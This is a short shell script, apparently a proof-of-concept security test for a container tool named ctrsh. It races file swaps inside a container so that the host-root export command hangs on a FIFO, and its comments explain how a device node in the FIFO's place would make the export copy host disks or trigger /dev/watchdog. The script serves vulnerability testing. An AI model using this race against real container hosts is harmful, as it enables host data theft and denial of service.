#!/bin/sh
# `export oci` of a running container copies a root the container is still
# changing. TreeCopy stats each entry (fstatat), then opens it (openat
# O_RDONLY|O_NOFOLLOW, no O_NONBLOCK, no fstat after): a process in the
# container that keeps exchanging a regular file with a FIFO
# (renameat2 RENAME_EXCHANGE, export-swap.c) makes ctrsh open the FIFO and
# block in it for ever (seen: wait_for_partner). With a device node in the
# FIFO's place (the container may mknod any node), ctrsh — host root, in
# no device cgroup — opens and copies the host's device instead: a disk
# (b 254:0 here) into the bundle's rootfs, or a node whose open has an
# effect (/dev/watchdog). Run with a timeout; exit 0 = ctrsh hung.
# Usage: attack/export-swap.sh CTRSH BUSYBOX_ROOT
set -u
ctrsh=${1:?}; root=${2:?}; out=$(mktemp -d)
gcc -static -O2 -o "$root/bin/swap" "$(dirname "$0")/export-swap.c" || exit 2
exports=""; for i in 1 2 3 4 5 6 7 8; do exports="$exports export oci $out/b$i /bin/true;"; done
timeout 45 "$ctrsh" -c "ns new pid,uts,ipc,net,mnt; rootfs use $root; start; exec -d /bin/swap; sleep 2s;$exports stop" > "$out/log" 2>&1
rc=$?
tail -1 "$out/log"; rm -rf "$out" "$root/race" "$root/bin/swap"
echo "ctrsh: exit $rc (124 = killed by the timeout while blocked)"
[ $rc -eq 124 ]
